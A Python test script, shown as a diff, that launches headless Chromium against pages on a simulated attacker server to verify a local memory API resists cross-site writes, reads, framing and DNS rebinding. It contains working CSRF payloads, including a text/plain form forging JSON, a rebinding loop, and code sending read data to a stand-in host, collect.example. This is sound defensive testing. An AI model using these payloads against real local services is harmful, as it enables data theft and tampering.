@@ -1,0 +1,213 @@
+#!/usr/bin/env python3
+"""Promise: a web page in a browser on this machine can neither write to the memory nor read it.
+
+A real Chromium visits pages of an attacker's web server, whose names a DNS server of this test answers: forms, fetch without CORS, beacons,
+frames, and DNS rebinding, where the attacker's own name leads to 127.0.0.1 after the page has been loaded.
+
+usage: browser.py CHROMIUM     as root, where 127.0.0.1:8003 is the API and nothing else matters; /etc/resolv.conf must name 127.0.0.1
+"""
+
+import http.client
+import http.server
+import json
+import queue
+import socketserver
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import uuid
+
+API = ("127.0.0.1", 8003)
+# Where the attacker's server is before the name is rebound: the API has only 127.0.0.1 of this port.
+BEFORE = "127.0.0.66"
+COLLECT = "http://collect.example:9666"
+MARK = f"written-by-a-page-{uuid.uuid4().hex}"
+NOTE = json.dumps({"action_type": "note", "action_details": {"content": MARK}})
+
+reports = queue.Queue()
+rebound = threading.Event()
+
+
+class Names(socketserver.BaseRequestHandler):
+    """DNS: every name is 127.0.0.1; rebind.example is the attacker's own address until it is rebound. Nothing may be kept."""
+
+    def handle(self):
+        query, sock = self.request
+        labels, at = [], 12
+        while query[at]:
+            labels.append(query[at + 1 : at + 1 + query[at]].decode())
+            at += query[at] + 1
+        kind = struct.unpack("!H", query[at + 1 : at + 3])[0]
+        is_before = ".".join(labels) == "rebind.example" and not rebound.is_set()
+        address = bytes(map(int, (BEFORE if is_before else "127.0.0.1").split(".")))
+        answers = struct.pack("!HHHIH", 0xC00C, 1, 1, 0, 4) + address if kind == 1 else b""
+        sock.sendto(query[:2] + struct.pack("!HHHHH", 0x8180, 1, bool(answers), 0, 0) + query[12 : at + 5] + answers, self.client_address)
+
+
+class Attacker(http.server.BaseHTTPRequestHandler):
+    """The pages, and what they report."""
+
+    def do_GET(self):
+        page = PAGES.get(self.path)
+        self.answer(200 if page else 404, (page or "").encode())
+
+    def do_POST(self):
+        reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+        self.answer(200, b"")
+
+    def answer(self, status, body):
+        self.send_response(status)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("X-Attacker", "yes")
+        self.send_header("Connection", "close")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_):
+        pass
+
+
+SAY = f"const say = what => fetch('{COLLECT}/', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});"
+TARGET = "http://127.0.0.1:8003"
+# A form of type text/plain sends name=value: with the name ending inside a string of the JSON, the whole is JSON.
+FORM_NAME = NOTE[:-2] + ',"x":"'
+PAGES = {
+    "/write": f"""<!doctype html><meta charset=utf-8>
+<form id=f method=post enctype=text/plain target=t action="{TARGET}/memory/action"><input name='{FORM_NAME}' value='"}}}}'></form><iframe name=t></iframe>
+<script>{SAY}
+const note = {json.dumps(NOTE)}, to = path => '{TARGET}' + path;
+const send = (path, body, headers) => fetch(to(path), {{method: 'POST', mode: 'no-cors', body, headers}}).then(() => 'sent', error => String(error));
+addEventListener('load', async () => {{
+  const done = {{}};
+  done.text = await send('/memory/action', note, {{'Content-Type': 'text/plain'}});
+  done.blob = await send('/memory/action', new Blob([note]));
+  done.form = await send('/memory/import', new URLSearchParams([['a', 'b']]));
+  done.import = await send('/memory/import', JSON.stringify({{content: {json.dumps(MARK)}}}) + '\\n');
+  done.clear = await send('/memory/working/clear', '');
+  done.beacon = navigator.sendBeacon(to('/memory/action'), note);
+  done.cors = await fetch(to('/memory/action'), {{method: 'POST', body: note, headers: {{'Content-Type': 'application/json'}}}}).then(() => 'sent', () => 'refused');
+  done.read = await fetch(to('/memory/export')).then(answer => answer.text(), () => 'refused');
+  const submitted = new Promise(done => document.querySelector('iframe').addEventListener('load', done, {{once: true}}));
+  f.submit();
+  await submitted;
+  await say({{page: 'write', done}});
+}});
+</script>""",
+    "/frame": f"""<!doctype html><meta charset=utf-8><iframe src="{TARGET}/"></iframe>
+<script>{SAY} addEventListener('load', () => say({{page: 'frame', frames: frames.length}}));</script>""",
+    # Until somebody else than the attacker answers under the attacker's name.
+    "/rebind": f"""<!doctype html><meta charset=utf-8><script>{SAY}
+(async () => {{
+  await say({{page: 'loaded'}});
+  for (;;) {{
+    const answer = await fetch('/memory/export', {{cache: 'no-store'}}).catch(() => null);
+    if (answer && !answer.headers.has('X-Attacker')) {{
+      const read = await answer.text();
+      const wrote = await fetch('/memory/action', {{method: 'POST', body: {json.dumps(NOTE)}, headers: {{'Content-Type': 'application/json'}}}});
+      await say({{page: 'rebind', status: answer.status, read, wrote: wrote.status}});
+      return;
+    }}
+    await new Promise(done => setTimeout(done, 100));
+  }}
+}})();</script>""",
+}
+
+
+def expect(holds, what):
+    if not holds:
+        raise SystemExit(f"browser.py: {what}")
+
+
+def ask(method, path, body=None):
+    connection = http.client.HTTPConnection(*API, timeout=30)
+    connection.request(method, path, body, {"Content-Type": "application/json"})
+    answer = connection.getresponse()
+    return answer.status, answer.read().decode(), answer
+
+
+def refused():
+    """So many requests the API has answered with 403."""
+    return sum(int(line.split()[-1]) for line in ask("GET", "/metrics")[1].splitlines() if 'status="403"' in line)
+
+
+def serve(server):
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+class Visit:
+    """A browser at a page, until what it is to report has come."""
+
+    def __init__(self, chromium, url):
+        self.profile = tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)
+        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
+                 "--disable-sync", "--disable-dev-shm-usage", f"--user-data-dir={self.profile.name}",
+                 # What Chromium itself keeps from loopback is not what is tested, and other browsers have not got it.
+                 "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,AsyncDns", "--remote-debugging-port=0"]
+        self.process = subprocess.Popen([chromium, *flags, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+    def __enter__(self):
+        return self
+
+    def reported(self, page):
+        while True:
+            report = reports.get(timeout=180)
+            if report["page"] == page:
+                return report
+
+    def __exit__(self, *_):
+        self.process.kill()
+        self.process.wait()
+        self.profile.cleanup()
+
+
+def no_page_writes(chromium):
+    before = refused()
+    with Visit(chromium, "http://evil.example:9666/write") as visit:
+        done = visit.reported("write")["done"]
+    expect(done["read"] == "refused" and done["cors"] == "refused", f"a page read an answer: {done}")
+    expect(MARK not in ask("GET", "/memory/export")[1], "a page of another site stored an episode")
+    # Text, Blob, beacon, form and JSON to /memory/action; form and lines to /memory/import; clear; read: all of them have come.
+    expect(refused() >= before + 9, f"of the attack only {refused() - before} requests came: {done}")
+    items = json.loads(ask("GET", "/memory/working/items")[1])
+    expect("kept" in json.dumps(items), f"a page of another site cleared the working memory: {items}")
+
+
+def no_page_frames(chromium):
+    with Visit(chromium, "http://evil.example:9666/frame") as visit:
+        expect(visit.reported("frame")["frames"] == 1, "the frame itself is not there")
+    answer = ask("GET", "/")[2]
+    expect(answer.getheader("X-Frame-Options") == "DENY" and "frame-ancestors 'none'" in answer.getheader("Content-Security-Policy", ""), "the answer may be framed")
+
+
+def no_name_is_rebound(chromium):
+    before = serve(http.server.ThreadingHTTPServer((BEFORE, 8003), Attacker))
+    with Visit(chromium, "http://rebind.example:8003/rebind") as visit:
+        visit.reported("loaded")
+        rebound.set()
+        before.shutdown()
+        before.server_close()
+        report = visit.reported("rebind")
+    expect((report["status"], report["wrote"]) == (403, 403), f"under another name the page was answered {report}")
+    expect('"code":"host"' in report["read"] and "of-the-owner" not in report["read"], f"the page read {report['read'][:200]}")
+    expect(MARK not in ask("GET", "/memory/export")[1], "a rebound page stored an episode")
+
+
+def main():
+    chromium = sys.argv[1]
+    serve(socketserver.UDPServer(("127.0.0.1", 53), Names))
+    serve(http.server.ThreadingHTTPServer(("127.0.0.1", 9666), Attacker))
+    own = json.dumps({"action_type": "note", "action_details": {"content": f"of-the-owner {uuid.uuid4().hex}"}})
+    expect(ask("POST", "/memory/action", own)[0] == 200, "the owner cannot store")
+    expect(ask("POST", "/memory/working/add?episode_id=kept", "[]")[0] == 200, "the owner cannot add to the working memory")
+    for check in no_page_writes, no_page_frames, no_name_is_rebound:
+        check(chromium)
+        print(f"ok {check.__name__}")
+    print("3 passed, 0 failed")
+
+
+if __name__ == "__main__":
+    main()
